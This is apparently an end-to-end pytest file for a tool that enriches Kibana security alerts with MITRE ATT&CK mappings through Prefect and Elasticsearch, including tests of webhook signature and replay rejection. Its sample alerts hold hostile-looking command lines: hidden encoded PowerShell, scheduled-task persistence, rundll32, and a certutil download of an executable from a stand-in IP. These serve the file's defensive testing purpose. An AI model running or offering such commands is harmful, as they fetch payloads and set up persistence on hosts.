"""End to end: a real Prefect server and a real Elasticsearch node, the local mapper, no LLM.

- the batch flow, the poller (idempotent event ids, checkpoint) and the backfill (resume) write ECS
  ``threat.*`` and the ``attackmap`` provenance into the alert documents;
- the durable path: a served deployment with a DeploymentEventTrigger, fed by a posted event; also with the
  warm executor (`flows.deploy --in-process`), including runs queued while it was down;
- the low-latency path: a signed webhook → Prefect event → the worker subscribed to the event stream;
  forged, stale, replayed and oversized webhook requests are rejected and emit nothing;
- `attackmap workflows deploy` creates (and re-applies) the deployment and its trigger.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
import yaml

from mitre.assemble import EngineOptions, build_engine
from mitre.config import load_workflows
from mitre.io.events import alert_event_id, alert_resource_id

pytestmark = [pytest.mark.elasticsearch, pytest.mark.prefect, pytest.mark.shared_data]

REPO = Path(__file__).resolve().parents[1]
SECRET = b"e2e-secret-0123456789abcdef"


def make_alert(i: int, *, risk: float = 73.0, tagged: bool = False) -> dict[str, Any]:
    """A Kibana security alert (flat dotted kibana.* keys) from an untagged rule."""
    commands = [
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
        "cmd.exe /c schtasks /create /tn updater /tr c:\\temp\\u.exe /sc onlogon",
        "rundll32.exe c:\\users\\public\\x.dll,Start",
        "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe",
    ]
    alert: dict[str, Any] = {
        "@timestamp": f"2024-05-01T10:{i // 60 % 60:02d}:{i % 60:02d}.000Z",
        "kibana.alert.uuid": f"alert-{i:05d}",
        "kibana.alert.risk_score": risk,
        "kibana.alert.severity": "high",
        "kibana.alert.workflow_status": "open",
        "kibana.alert.rule.uuid": f"rule-{i % 4}",
        "kibana.alert.rule.name": ["Suspicious Process", "Scheduled Task", "Rundll32", "Certutil Download"][i % 4],
        "kibana.space_ids": ["default"],
        "host": {"name": f"host-{i}", "os": {"family": "windows"}},
        "process": {"name": commands[i % 4].split()[0], "command_line": commands[i % 4] + f" #{i}"},
        "event": {"kind": "signal", "category": ["process"]},
    }
    if tagged:
        alert["kibana.alert.rule.threat"] = [
            {
                "framework": "MITRE ATT&CK",
                "tactic": {
                    "id": "TA0002",
                    "name": "Execution",
                    "reference": "https://attack.mitre.org/tactics/TA0002/",
                },
                "technique": [{"id": "T1059", "name": "Command and Scripting Interpreter", "reference": "x"}],
            }
        ]
    return alert


def index_alerts(es: Any, index: str, alerts: list[dict[str, Any]]) -> list[str]:
    ops: list[dict[str, Any]] = []
    for alert in alerts:
        ops.append({"index": {"_index": index, "_id": alert["kibana.alert.uuid"]}})
        ops.append(alert)
    resp = es.bulk(operations=ops, refresh=True)
    assert not resp["errors"]
    return [a["kibana.alert.uuid"] for a in alerts]


def assert_enriched(doc: dict[str, Any]) -> None:
    src = doc["_source"]
    threat = src.get("threat")
    assert threat and threat["framework"] == "MITRE ATT&CK", src.get("attackmap")
    assert threat["technique"]["id"], threat
    assert all(t.startswith("TA") for t in threat["tactic"]["id"])
    prov = src["attackmap"]
    assert prov["mapper"] == "local" and prov["catalog_version"]
    assert len(prov["provenance_hash"]) == 64
    assert prov["decision"] in ("map", "extend")


def wait_enriched(es: Any, index: str, ids: list[str], timeout: float) -> float:
    started = time.monotonic()
    pending = set(ids)
    while pending:
        docs = es.mget(index=index, ids=sorted(pending), source_includes=["attackmap.provenance_hash"])["docs"]
        for doc in docs:
            if (doc.get("_source") or {}).get("attackmap", {}).get("provenance_hash"):
                pending.discard(doc["_id"])
        if not pending:
            break
        if time.monotonic() - started > timeout:
            raise AssertionError(f"{len(pending)} of {len(ids)} alerts not enriched after {timeout:.0f}s")
        time.sleep(0.2)
    return time.monotonic() - started


# --------------------------------------------------------------------------- fixtures


@pytest.fixture
def wf_file(tmp_path: Path, shared_data: Path, es_index: str) -> Path:
    doc = {
        "version": 1,
        "catalog": {"path": str(shared_data / "attack" / "enterprise-attack.json")},
        "cache": {"directory": str(tmp_path / "cache")},
        "workflows": [
            {
                "name": "e2e",
                "trigger": {"index_pattern": es_index, "batch_size": 50},
                "mapper": {"provider": "local", "knowledge_base": []},
                "outputs": {"elasticsearch_write_back": True},
            }
        ],
    }
    path = tmp_path / "workflows.yaml"
    path.write_text(yaml.safe_dump(doc))
    return path


@pytest.fixture
def runtime(prefect_api_url: str, es_client: Any, wf_file: Path, shared_data: Path, tmp_path: Path) -> Iterator[Any]:
    from flows.runtimes import RUNTIMES
    from mitre.service import make_runtime

    engine = build_engine(
        load_workflows(wf_file),
        options=EngineOptions(
            catalog=shared_data / "attack" / "enterprise-attack.json", knowledge_base=(), cache_dir=tmp_path / "cache"
        ),
    )
    rt = make_runtime(engine, es_client)
    RUNTIMES.install(rt)
    try:
        yield rt
    finally:
        RUNTIMES.clear()


@pytest.fixture
def child_env(prefect_api_url: str, es_url: str, wf_file: Path, tmp_path: Path) -> dict[str, str]:
    env = dict(os.environ)
    env.update(
        PREFECT_API_URL=prefect_api_url,
        PREFECT_SERVER_ANALYTICS_ENABLED="false",
        ATTACKMAP_ES_URL=es_url,
        ATTACKMAP_WORKFLOWS=str(wf_file),
        ATTACKMAP_HOME=str(tmp_path / "home"),
        PYTHONPATH=str(REPO) + os.pathsep + env.get("PYTHONPATH", ""),
    )
    return env


def start(args: list[str], env: dict[str, str], log: Path) -> subprocess.Popen[bytes]:
    handle = log.open("wb")
    return subprocess.Popen([sys.executable, *args], env=env, cwd=REPO, stdout=handle, stderr=subprocess.STDOUT)


def stop(proc: subprocess.Popen[bytes]) -> None:
    proc.terminate()  # runners ignore SIGINT; SIGTERM stops them
    try:
        proc.wait(timeout=20)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


def wait_for(predicate: Any, timeout: float, what: str, log: Path | None = None) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            tail = log.read_text(errors="replace")[-3000:] if log and log.exists() else ""
            raise AssertionError(f"timed out after {timeout:.0f}s waiting for {what}\n{tail}")
        time.sleep(0.25)


# --------------------------------------------------------------------------- batch, poller, backfill


def test_enrich_alerts_flow_writes_threat_and_provenance(runtime: Any, es_client: Any, es_index: str) -> None:
    from flows.enrich import enrich_alerts

    ids = index_alerts(es_client, es_index, [make_alert(i) for i in range(8)])
    low = index_alerts(es_client, es_index, [make_alert(100, risk=10.0)])
    refs = [alert_resource_id(es_index, i) for i in ids] + [{"index": es_index, "id": low[0]}, f"{es_index}/nope"]
    result = enrich_alerts(refs=refs)
    assert result["enriched"] == 8 and result["written"] == 8
    assert result["skipped"] == {"low_risk": 1} or sum(result["skipped"].values()) == 1
    assert result["missing"] == [alert_resource_id(es_index, "nope")]
    for doc in es_client.mget(index=es_index, ids=ids)["docs"]:
        assert_enriched(doc)
        assert doc["_version"] == 2
    assert "attackmap" not in es_client.get(index=es_index, id=low[0])["_source"]
    # Idempotent: a second run changes nothing.
    again = enrich_alerts(refs=refs)
    assert again["written"] == 0 and again["unchanged"] == 8
    assert all(d["_version"] == 2 for d in es_client.mget(index=es_index, ids=ids)["docs"])


def test_poller_emits_one_idempotent_event_per_new_alert(
    runtime: Any, es_client: Any, es_index: str, tmp_path: Path
) -> None:
    from flows.poller import poll_once
    from mitre.io.elastic import Checkpoint

    ids = index_alerts(es_client, es_index, [make_alert(i) for i in range(12)] + [make_alert(50, risk=5.0)])
    sent: list[dict[str, Any]] = []
    cp = Checkpoint(tmp_path / "poll.json")
    out = poll_once(runtime, cp, emit=sent.extend)
    assert out["emitted"] == 12 and out["seen"] == 12
    assert {e["id"] for e in sent} == {str(alert_event_id(es_index, i)) for i in ids[:12]}
    assert Checkpoint.load(tmp_path / "poll.json").tiebreaker == ids[11]
    # Nothing new: nothing emitted; new alerts: only those.
    assert poll_once(runtime, Checkpoint.load(tmp_path / "poll.json"), emit=sent.extend)["emitted"] == 0
    more = index_alerts(es_client, es_index, [make_alert(i) for i in range(60, 63)])
    out = poll_once(runtime, Checkpoint.load(tmp_path / "poll.json"), emit=sent.extend)
    assert out["emitted"] == 3 and [e["payload"]["id"] for e in sent[-3:]] == more
    # Direct mode enriches in place.
    direct = poll_once(runtime, Checkpoint(tmp_path / "direct.json"), mode="direct")
    assert direct["enriched"] == 15 and direct["written"] == 15


def test_backfill_resumes_from_its_checkpoint(runtime: Any, es_client: Any, es_index: str, tmp_path: Path) -> None:
    from flows.backfill import run_backfill
    from mitre.io.elastic import Checkpoint

    ids = index_alerts(es_client, es_index, [make_alert(i) for i in range(30)])
    path = tmp_path / "backfill.json"
    seen: list[tuple[int, int | None]] = []
    first = run_backfill(
        runtime, Checkpoint.load(path), batch_size=4, max_alerts=10, progress=lambda d, t, _: seen.append((d, t))
    )
    assert first.sink.updated == 10
    assert seen[-1] == (10, 10) and len(seen) == 3
    rest = run_backfill(runtime, Checkpoint.load(path), batch_size=8)
    assert rest.sink.updated == 20 and rest.requested == 20
    docs = es_client.mget(index=es_index, ids=ids)["docs"]
    for doc in docs:
        assert_enriched(doc)
    assert {d["_version"] for d in docs} == {2}, "each alert enriched exactly once"


# --------------------------------------------------------------------------- durable path


def test_event_trigger_runs_the_served_deployment(
    prefect_api_url: str, es_client: Any, es_index: str, child_env: dict[str, str], wf_file: Path, tmp_path: Path
) -> None:
    from mitre.io.events import AlertRef, alert_event, post_events

    ids = index_alerts(es_client, es_index, [make_alert(i) for i in range(3)])
    log = tmp_path / "serve.log"
    proc = start(["-m", "flows.deploy", "--workflows", str(wf_file), "--limit", "2"], child_env, log)
    try:
        api = httpx.Client(base_url=prefect_api_url, timeout=10)
        wait_for(lambda: api.get("/deployments/name/enrich-alerts/e2e").status_code == 200, 90, "deployment", log)
        wait_for(
            lambda: "being served" in log.read_text(errors="replace") or proc.poll() is not None,
            60,
            "runner",
            log,
        )
        assert proc.poll() is None, log.read_text()
        events = [alert_event("security.alert.high-risk", AlertRef(es_index, i, "default")) for i in ids]
        post_events(prefect_api_url, events)
        post_events(prefect_api_url, events)  # a retried delivery: same ids, no second run
        wait_enriched(es_client, es_index, ids, timeout=120)
        for doc in es_client.mget(index=es_index, ids=ids)["docs"]:
            assert_enriched(doc)
            assert doc["_version"] == 2
    finally:
        stop(proc)
        delete_deployment(prefect_api_url, "enrich-alerts/e2e")


def test_warm_executor_runs_queued_and_new_trigger_runs_in_process(
    prefect_api_url: str, es_client: Any, es_index: str, child_env: dict[str, str], wf_file: Path, tmp_path: Path
) -> None:
    from typer.testing import CliRunner

    from mitre.cli import app
    from mitre.io.events import AlertRef, alert_event, post_events

    api = httpx.Client(base_url=prefect_api_url, timeout=10)

    def runs(deployment_id: str) -> list[dict[str, Any]]:
        body = {"deployments": {"id": {"any_": [deployment_id]}}}
        return list(api.post("/flow_runs/filter", json=body).json())

    def send(ids: list[str]) -> None:
        events = [alert_event("security.alert.high-risk", AlertRef(es_index, i, "default")) for i in ids]
        post_events(prefect_api_url, events)

    queued = index_alerts(es_client, es_index, [make_alert(i) for i in range(2)])
    live = index_alerts(es_client, es_index, [make_alert(i) for i in range(10, 12)])
    log = tmp_path / "executor.log"
    proc = None
    try:
        # Deployed, but no executor up: the trigger's runs wait in Prefect.
        deployed = CliRunner().invoke(app, ["workflows", "deploy", "--workflows", str(wf_file)])
        assert deployed.exit_code == 0, deployed.output
        deployment_id = api.get("/deployments/name/enrich-alerts/e2e").json()["id"]
        time.sleep(2.0)  # let the triggers service load the new automation
        send(queued)
        wait_for(lambda: len(runs(deployment_id)) == 2, 60, "queued flow runs")
        assert {r["state_type"] for r in runs(deployment_id)} == {"SCHEDULED"}

        proc = start(["-m", "flows.deploy", "--workflows", str(wf_file), "--in-process"], child_env, log)
        wait_for(lambda: "being served in-process" in log.read_text(errors="replace") or proc.poll() is not None, 90,
                 "executor", log)  # fmt: skip
        assert proc.poll() is None, log.read_text()
        wait_enriched(es_client, es_index, queued, timeout=60)
        send(live)
        send(live)  # a retried delivery: same ids, no second run
        wait_enriched(es_client, es_index, live, timeout=60)
        wait_for(lambda: {r["state_type"] for r in runs(deployment_id)} == {"COMPLETED"}, 30, "runs completed", log)
        done = runs(deployment_id)
        assert len(done) == 4
        text = log.read_text(errors="replace")
        for run in done:  # executed by the executor process itself (its flow-run logs are in its output)
            assert f"Beginning flow run '{run['name']}'" in text, text[-3000:]
        for doc in es_client.mget(index=es_index, ids=queued + live)["docs"]:
            assert_enriched(doc)
            assert doc["_version"] == 2
    finally:
        if proc is not None:
            stop(proc)
        delete_deployment(prefect_api_url, "enrich-alerts/e2e")


def delete_deployment(api_url: str, name: str) -> None:
    """Remove a test deployment (and its trigger), so later events do not queue runs for it."""
    with httpx.Client(base_url=api_url, timeout=10) as api:
        found = api.get(f"/deployments/name/{name}")
        if found.status_code == 200:
            deployment_id = found.json()["id"]
            # Deleting a deployment leaves its triggers' automations behind (and they keep firing, failing with
            # 404 and clogging the actions service): remove them too.
            for automation in api.post("/automations/filter", json={}).json():
                if any(action.get("deployment_id") == deployment_id for action in automation["actions"]):
                    api.delete(f"/automations/{automation['id']}")
            api.delete(f"/deployments/{deployment_id}")


def test_workflows_deploy_creates_and_updates_deployment_and_trigger(prefect_api_url: str, wf_file: Path) -> None:
    from typer.testing import CliRunner

    from mitre.cli import app

    first = CliRunner().invoke(app, ["workflows", "deploy", "--workflows", str(wf_file)])
    assert first.exit_code == 0, first.output
    second = CliRunner().invoke(app, ["workflows", "deploy", "--workflows", str(wf_file)])
    assert second.exit_code == 0 and second.output == first.output  # updated in place: same id
    api = httpx.Client(base_url=prefect_api_url, timeout=10)
    deployment = api.get("/deployments/name/enrich-alerts/e2e").json()
    assert deployment["parameters"] == {"workflow": "e2e"}
    automations = api.post("/automations/filter", json={}).json()
    mine = [a for a in automations if any(x.get("deployment_id") == deployment["id"] for x in a["actions"])]
    assert mine, automations
    trigger = mine[0]["trigger"]
    assert trigger["expect"] == ["security.alert.high-risk"]
    assert mine[0]["actions"][0]["parameters"]["refs"] == ["{{ event.resource.id }}"]
    removed = CliRunner().invoke(app, ["workflows", "undeploy", "--workflows", str(wf_file)])
    assert removed.exit_code == 0 and "removed enrich-alerts/e2e" in removed.output, removed.output
    assert api.get("/deployments/name/enrich-alerts/e2e").status_code == 404
    remaining = api.post("/automations/filter", json={}).json()
    assert not [a for a in remaining if any(x.get("deployment_id") == deployment["id"] for x in a["actions"])]


# --------------------------------------------------------------------------- low-latency path + webhook


def test_signed_webhook_reaches_the_worker_and_rejections_emit_nothing(
    prefect_api_url: str, es_client: Any, es_index: str, child_env: dict[str, str], wf_file: Path, tmp_path: Path
) -> None:
    from starlette.testclient import TestClient

    from mitre.io.events import PrefectEvents
    from mitre.io.webhook import create_app, signed_headers

    ids = index_alerts(es_client, es_index, [make_alert(i) for i in range(6)])
    good, forged, stale, replay, big = ids[:2], ids[2], ids[3], ids[4], ids[5]
    log = tmp_path / "worker.log"
    proc = start(["-m", "flows.worker", "--lookback-seconds", "5"], child_env, log)
    try:
        wait_for(lambda: "subscribed" in log.read_text(errors="replace") or proc.poll() is not None, 90, "worker", log)
        assert proc.poll() is None, log.read_text()
        config = load_workflows(wf_file)
        app = create_app(config, PrefectEvents(prefect_api_url), {"e2e": SECRET})
        with TestClient(app) as client:

            def body(*alert_ids: str, pad: int = 0) -> bytes:
                alerts = [
                    {"_index": es_index, "_id": i, "kibana.space_ids": ["default"], "pad": "x" * pad} for i in alert_ids
                ]
                return orjson.dumps({"alerts": alerts})

            ok = body(*good)
            h_ok = signed_headers(SECRET, ok)
            resp = client.post("/hooks/e2e", content=ok, headers=h_ok)
            assert resp.status_code == 202, resp.text
            wait_enriched(es_client, es_index, good, timeout=30)
            assert client.post("/hooks/e2e", content=ok, headers=h_ok).status_code == 409  # exact replay

            b = body(forged)
            h = {**signed_headers(SECRET, b), "x-attackmap-signature": "sha256=" + "ab" * 32}
            assert client.post("/hooks/e2e", content=b, headers=h).status_code == 401
            b = body(stale)
            h = signed_headers(SECRET, b, timestamp=time.time() - 3600)
            assert client.post("/hooks/e2e", content=b, headers=h).status_code == 401
            b = body(replay)  # validly signed, but with a nonce already used
            h = signed_headers(SECRET, b, nonce=h_ok["x-attackmap-nonce"])
            assert client.post("/hooks/e2e", content=b, headers=h).status_code == 409
            b = body(big, pad=2_000_000)
            assert client.post("/hooks/e2e", content=b, headers=signed_headers(SECRET, b)).status_code == 413

        # Nothing was emitted for the rejected alerts: the accepted ones are in Prefect's event store, they are not.
        api = httpx.Client(base_url=prefect_api_url, timeout=10)

        def stored() -> set[str]:
            flt = {"filter": {"resource": {"id_prefix": [f"attackmap.alert/{es_index}/"]}}, "limit": 50}
            return {e["resource"]["prefect.resource.id"] for e in api.post("/events/filter", json=flt).json()["events"]}

        wait_for(lambda: {alert_resource_id(es_index, i) for i in good} <= stored(), 30, "events persisted")
        time.sleep(1.0)
        assert stored() == {alert_resource_id(es_index, i) for i in good}
        for alert_id in (forged, stale, replay, big):
            assert "attackmap" not in es_client.get(index=es_index, id=alert_id)["_source"]
        for doc in es_client.mget(index=es_index, ids=good)["docs"]:
            assert_enriched(doc)
            assert doc["_version"] == 2
    finally:
        stop(proc)
